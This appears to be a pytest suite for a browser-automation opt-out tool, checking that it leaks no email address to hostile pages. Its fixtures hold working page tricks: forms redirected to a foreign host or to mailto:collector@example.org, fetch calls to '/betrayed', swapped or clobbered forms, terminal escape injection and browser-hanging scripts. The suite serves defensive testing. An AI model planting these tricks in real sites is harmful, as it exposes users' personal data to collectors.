"""Pages that mean harm: nothing personal reaches another host, nothing moves the cursor."""

import re
import unicodedata
from contextlib import suppress

import pytest
from playwright.async_api import Page
from support.headless_run import HeadlessRun
from support.hostile_site import ESC, FORM, TELLS, HostileSite
from support.locate_site import Site, document, permits, shadow
from support.waiting import until
from support.web_server import PRESSES
from support.world import EMAIL, World

from optout.page import reading
from optout.page.fields import Forbidden, put_text
from optout.system.attempt import attempt
from optout.system.timeouts import bounded

_STYLE = re.compile(r"\x1b\[[0-9;]*m")
_ANYTHING = (
    "you check and|how do you want to go on|does not recognise|Please sign in|not sure which field"
    "|not the form that was filled in|asks something first"
)

_HANG = "const x = new XMLHttpRequest(); x.open('GET', '/never', false); x.send();"
"""It waits for ever, and nothing on the page answers; an endless loop would burn a core, too."""

_HASTY = 1.0

IN_A_WINDOW = {
    "opens_downloads_and_asks_for_permissions": FORM
    + "<a id=d download=x href='data:text/plain,x'></a><script>d.click();"
    "for (let i = 0; i < 5; i++) open('{foreign}/elsewhere');"
    "navigator.geolocation.getCurrentPosition(() => {}); Notification.requestPermission();"
    "</script>",
    "escapes": FORM.replace("Send request", f"Send {ESC} request")
    .replace("Email address", f"Email {ESC} address")
    .replace("<h1>", f"<title>{ESC}</title><h1>{ESC}")
    .replace(">France<", f">France {ESC}<")
    .replace("Country", f"Country {ESC}")
    .replace("<form", f"<p role=alert>Wrong {ESC} address</p><form"),
    "escapes_in_a_question": "<h1>Object</h1><fieldset><legend>Which request is it? "
    f"{ESC}</legend><label><input type=radio name=q>One {ESC}</label>"
    f"<label><input type=radio name=q>Two {ESC}</label></fieldset>",
    "alerts_with_escapes_without_end": FORM
    + "<script>let n = 0; setInterval(() => alert('x\\x1b[2J\\u009b31m\\u202ey' + n++), 30);"
    "</script>",
}
OUT_OF_SIGHT = {
    "hangs": FORM + f"<script>setTimeout(() => {{ {_HANG} }}, 200);</script>",
    "hangs_when_typed_into": FORM
    + f"<script>addEventListener('input', () => {{ {_HANG} }}, true);</script>",
    "hangs_once_filled": FORM
    + "<script>addEventListener('input', () => { if ([...document.querySelectorAll("
    + f"'input, select, textarea')].every(e => e.value)) setTimeout(() => {{ {_HANG} }}, 100);"
    + " }, true);</script>",
    "frame_elsewhere": "<h1>Object</h1>"
    "<iframe src='{foreign}/elsewhere' width=600 height=600></iframe>",
    "redirects_while_filling": FORM
    + "<script>addEventListener('input', () => { location = '{foreign}/elsewhere'; }, true);"
    "</script>",
    "swaps_a_field_for_a_frame": FORM
    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
  const f = document.createElement('iframe'); f.src = '{foreign}/elsewhere';
  e.target.replaceWith(f); } }, true);</script>""",
    "swaps_a_form_for_another": FORM
    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email')
  document.body.innerHTML = `<h1>Post publicly</h1><form><label>Email of a friend <input name=p>
  </label><label>Say something to everybody <textarea name=p></textarea></label>
  <button>Post</button></form>`; }, true);
addEventListener('input', e => { if (e.target.name === 'p') fetch('/betrayed'); }, true);
</script>""",
    "moves_a_field_into_a_sign_in": FORM
    + """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
  const f = document.createElement('form'); f.innerHTML = '<input type=password><button>Log in';
  document.body.append(f); f.append(e.target); } }, true);
addEventListener('input', e => { if (e.target.form.querySelector('[type=password]'))
  fetch('/betrayed'); }, true);</script>""",
    "a_label_of_a_megabyte_and_fifty_thousand_controls": "<div>"
    + "<input>" * 50_000
    + "</div>"
    + FORM.replace("Email address", "Email address " + "y" * 1_000_000),
}


def _in_haste(patch: pytest.MonkeyPatch) -> None:
    """A page that does not answer is waited for one second where it else is ten."""
    for waits in (bounded, attempt):
        patch.setattr(waits, "__defaults__", (_HASTY,))
    for looks in (reading.read, reading.settled):
        given = looks.__kwdefaults__ or {}
        patch.setattr(looks, "__kwdefaults__", given | {"limit": _HASTY})


def _kept_its_secret(site: HostileSite) -> None:
    """Assert that nobody but the form's host heard anything, and that nothing was sent there."""
    assert site.requests
    assert EMAIL not in site.foreign_requests
    assert "prenom.nom" not in site.foreign_requests
    assert not [r for r in site.requests if "/send" in r or "/betrayed" in r]


@pytest.mark.headed
@pytest.mark.parametrize("name", IN_A_WINDOW)
def test_nothing_leaves_and_nothing_moves(world: World, name: str) -> None:
    with HostileSite({"/": IN_A_WINDOW[name], "/elsewhere": FORM}) as site:
        tool = world.run("facebook", "--url", site.own + "/")
        tool.expect(_ANYTHING, timeout=100)
        tool.interrupt()
        assert tool.exit(timeout=60) == 130
        _kept_its_secret(site)
    shown = _STYLE.sub("", tool.raw)
    bad = {c for c in shown if unicodedata.category(c) in ("Cc", "Cf", "Cs")} - set("\r\n\t\a")
    assert not bad, bad
    assert "owned\a" not in shown, "only the tool's own bell rings: for a person who had to wait"
    assert world.record()["state"] == "abandoned"


@pytest.mark.headed
def test_ctrl_c_ends_a_run_whose_page_hangs(world: World) -> None:
    with HostileSite({"/": OUT_OF_SIGHT["hangs"]}) as site:
        tool = world.run("facebook", "--url", site.own + "/")
        until(lambda: any("/never" in r for r in site.requests), seconds=60)
        tool.interrupt()
        assert tool.exit(timeout=60) == 130
        _kept_its_secret(site)
    assert world.record()["state"] == "abandoned"


@pytest.mark.parametrize("name", OUT_OF_SIGHT)
def test_nothing_leaves_a_page_that_changes_hangs_or_is_too_big(
    headless: HeadlessRun, name: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    if name.startswith("hangs"):
        _in_haste(monkeypatch)

    def anything() -> bool:
        return bool(re.search(_ANYTHING, "\n".join([*person.said, *person.asked])))

    person = headless.person
    with HostileSite({"/": OUT_OF_SIGHT[name], "/elsewhere": FORM}) as site:
        headless.run(site.own + "/", until=anything)
        _kept_its_secret(site)
    assert headless.record()["state"] == "abandoned"


def test_the_site_would_have_noticed(headless: HeadlessRun) -> None:
    with HostileSite({"/": FORM + PRESSES + TELLS}) as site:
        headless.run(
            site.foreign + "/", site.press, until=lambda: "/send" in "".join(site.requests)
        )
        assert "/betrayed" in site.foreign_requests
        assert "prenom.nom" in site.foreign_requests


_TELLS_OF_MAIL = """<script>addEventListener('input', e => {
  if (e.target.name === 'email') fetch('/betrayed'); }, true);</script>"""
SEND_ELSEWHERE = {
    "form": FORM.replace("/send", "{foreign}/send"),
    "button": FORM.replace("<button", "<button formaction='{foreign}/send'"),
    "mail": FORM.replace("/send", "mailto:collector@example.org"),
    "clobbered": FORM.replace("/send", "{foreign}/send").replace(
        "</form>", "<input type=hidden name=action></form>"
    ),
    "button_outside": FORM.replace("<form", "<form id=f")
    + "<button form=f formaction='{foreign}/send'>Send</button>",
    "image_and_clobbered": FORM.replace("<form", "<form id=f").replace(
        "</form>",
        "<input type=hidden name=querySelectorAll><input type=hidden name=elements></form>"
        "<input type=image form=f alt=Send formaction='{foreign}/send'>",
    ),
}
_WHEN_FOCUSED = """<script>addEventListener('focusin', e => { if (e.target.name === 'email') {
  %s } }, {capture: true, once: true});</script>"""
WITH_A_PASSWORD = {
    "password_outside": FORM.replace("<form", "<form id=f")
    + _WHEN_FOCUSED
    % "document.body.insertAdjacentHTML('beforeend', '<input type=password form=f hidden>')",
    "password_in_a_shadow": FORM.replace("</form>", "<span id=s></span></form>")
    + _WHEN_FOCUSED % "s.attachShadow({mode: 'open'}).innerHTML = '<input type=password hidden>'",
}
"""They come into the form as its field gets the cursor, so that only the last look can see them."""
_FIELD = "<input name=email>"
IN_COMPONENTS = {
    "in_a_component": f"<form action='{{to}}'>{shadow(_FIELD)}</form>",
    "in_two_components": f"<form action='{{to}}'>{shadow(shadow(_FIELD))}</form>",
    "in_a_slot": shadow("<form action='{to}'><slot></slot></form>", shown=_FIELD),
    "of_a_form_elsewhere": "<form id=f action='{to}'></form>"
    + shadow(_FIELD).replace("<x-part", "<x-part form=f"),
    "with_a_form_of_its_own": f"<form action='{{to}}'>{shadow('<form>', _FIELD, '</form>')}</form>",
}
_AT_AN_EVENT = """<form id=other action='{to}'></form><script>
addEventListener('%s', e => { %s }, {capture: true, once: true});</script>"""
WHILE_TYPED = {
    "told": ("beforeinput", "e.target.form.action = other.action"),
    "moved": ("beforeinput", "other.append(e.target)"),
    "typed": ("input", "e.target.form.action = other.action"),
    "typed_and_moved": ("input", "other.append(e.target)"),
    "inserted_by_the_page": (
        "beforeinput",
        "e.preventDefault(); e.target.value = e.data; other.append(e.target)",
    ),
}
"""At which event what is done."""
CHANGED = IN_COMPONENTS | {name: FORM + _AT_AN_EVENT % row for name, row in WHILE_TYPED.items()}
SEND_ELSEWHERE |= {name: page.replace("{to}", "{foreign}/send") for name, page in CHANGED.items()}
SEND_HOME = {
    action: FORM.replace("/send", action) for action in ("/send", "?", "#", "javascript:void(0)")
} | {f"{name}_at_home": page.replace("{to}", "/other") for name, page in CHANGED.items()}


def _typed(site: Site, page: str) -> str:
    """What the field for the address holds after the attempt to type into it."""

    async def tries(tab: Page) -> str:
        field = await tab.query_selector("[name=email]")
        assert field
        with suppress(Forbidden):
            await put_text(field, EMAIL, permits)
        return await field.input_value()

    return str(site.visit(document(page.replace("{foreign}", "https://other.test")), tries))


def test_a_form_is_typed_into_only_where_it_sends_home(site: Site) -> None:
    pages = {**SEND_ELSEWHERE, **WITH_A_PASSWORD, **SEND_HOME}
    typed = {name: _typed(site, page) for name, page in pages.items()}
    assert typed == dict.fromkeys(pages, "") | dict.fromkeys(SEND_HOME, EMAIL)


@pytest.mark.parametrize(
    "page",
    [
        SEND_ELSEWHERE["form"] + TELLS,
        WITH_A_PASSWORD["password_outside"] + _TELLS_OF_MAIL,
        SEND_ELSEWHERE["told"] + _TELLS_OF_MAIL,
    ],
    ids=["elsewhere", "with a password", "elsewhere once it is told"],
)
def test_what_is_left_empty_is_said(headless: HeadlessRun, page: str) -> None:
    with HostileSite({"/": page}) as site:
        headless.run(site.own + "/", until=headless.heard("e-mail: left empty, to be safe"))
        _kept_its_secret(site)
    assert headless.record()["state"] == "abandoned"
